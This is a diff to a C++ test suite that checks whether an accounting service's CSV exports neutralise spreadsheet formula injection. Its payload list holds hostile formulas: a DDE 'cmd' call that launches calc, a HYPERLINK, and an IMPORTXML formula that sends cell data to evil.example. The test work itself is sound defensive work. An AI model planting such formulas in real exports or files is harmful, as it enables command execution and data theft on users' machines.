@@ -10,7 +10,7 @@ class CsvExports : public test::WorldTest {
   protected:
     static std::vector<std::string> payloads() {
         std::vector<std::string> all;
-        for (auto const* begin : {"=", "+", "-", "@", "\t=", "\r="}) {
+        for (auto const* begin : {"=", "+", "-", "@", " =", "＝", "\t=", "\r="}) {
             for (auto const* rest :
                  {"1+1", "HYPERLINK(\"http://evil.example\",\"Pay\")", "cmd|' /C calc'!A0", "SUM(A1:A9)", "2+5,;\t|x",
                   "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "\"quoted\", \"twice\"", "A1\n=A2",
@@ -19,6 +19,7 @@ class CsvExports : public test::WorldTest {
         }
         return all;
     }
+    static bool is_one_line(std::string_view text) { return text.find_first_of("\t\r\n") == std::string_view::npos; }
     std::vector<CsvRow> exported(std::string const& who, std::string const& path) {
         auto const reply = ask(who, {.method = "GET", .path = path, .headers = {{"Accept", "text/csv"}}});
         EXPECT_EQ(reply.status, 200) << reply.body;
@@ -48,11 +49,18 @@ TEST_P(CsvExports, keep_a_formula_as_text_and_every_word_of_it) {
         auto const reply = post("dana", "/parties",
                                 R"({"zone":"UTC","currency":"EUR","is_customer":true,"name":)" + to_json(text) +
                                     R"(,"notes":)" + to_json(text) + "}");
-        // A name is one line; whoever writes more of them is told so.
-        EXPECT_TRUE(reply.status == 201 || reply.status == 422) << reply.body;
-        if (reply.status == 201) kept.push_back(get("dana", "/parties/" + reply.at("id")).at("name"));
+        // A name is one line; whoever writes more of them is told so, and notes may have them.
+        EXPECT_EQ(reply.status, is_one_line(text) ? 201 : 422) << reply.body;
+        if (reply.status == 201) {
+            kept.push_back(get("dana", "/parties/" + reply.at("id")).at("name"));
+        } else {
+            kept.push_back("Plain " + std::to_string(kept.size()));
+            make("dana", "/parties",
+                 R"({"zone":"UTC","currency":"EUR","name":)" + to_json(kept.back()) + R"(,"notes":)" + to_json(text) +
+                     "}");
+        }
     }
-    EXPECT_GE(kept.size(), 40U);
+    EXPECT_EQ(kept.size(), 80U);
     auto const rows = exported("dana", "/parties?limit=200");
     EXPECT_EQ(rows.size(), before + kept.size());
     expect_no_formula(rows);
@@ -79,7 +87,7 @@ TEST_P(CsvExports, of_the_journal_keep_a_formula_as_text_and_numbers_as_numbers)
         auto const reply = post("fran", "/journal_entries",
                                 R"({"posted_on":"2026-11-05","text":)" + to_json(text) + R"(,"postings":[)" +
                                     side(0, "5.00") + "," + side(1, "-5.00") + "]}");
-        EXPECT_TRUE(reply.status == 200 || reply.status == 422) << reply.body;
+        EXPECT_EQ(reply.status, is_one_line(text) ? 200 : 422) << reply.body;
         if (reply.status == 200) booked += 2;
     }
     EXPECT_GE(booked, 80U);
